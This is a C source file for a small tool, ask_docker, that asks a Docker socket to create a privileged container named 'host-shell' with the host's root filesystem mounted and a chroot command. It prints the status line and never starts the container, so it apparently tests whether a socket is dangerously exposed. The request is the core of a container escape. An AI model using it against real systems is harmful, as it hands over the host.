// ask_docker SOCKET IMAGE: asks the runtime behind a socket for a privileged container with the node's root directory
// mounted, which would hand the node to whoever asks. Prints the answer's status line. The container is never started.
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char** argv) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  char body[512], request[1024], answer[256];
  if (argc < 3 || strlen(argv[1]) >= sizeof address.sun_path) return 2;
  strcpy(address.sun_path, argv[1]);

  const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0 || connect(fd, (struct sockaddr*)&address, sizeof address) != 0) {
    perror("ask_docker: connect");
    return 1;
  }
  const int length = snprintf(body, sizeof body,
                              "{\"Image\":\"%s\",\"Cmd\":[\"chroot\",\"/host\"],"
                              "\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/host\"]}}",
                              argv[2]);
  const int size = snprintf(request, sizeof request,
                            "POST /v1.41/containers/create?name=host-shell HTTP/1.1\r\nHost: docker\r\n"
                            "Content-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s",
                            length, body);
  if (write(fd, request, (size_t)size) != size) {
    perror("ask_docker: write");
    return 1;
  }
  const ssize_t got = read(fd, answer, sizeof answer - 1);
  if (got <= 0) return 1;
  answer[got] = 0;
  answer[strcspn(answer, "\r\n")] = 0;
  printf("ask_docker: %s\n", answer);
  return 0;
}
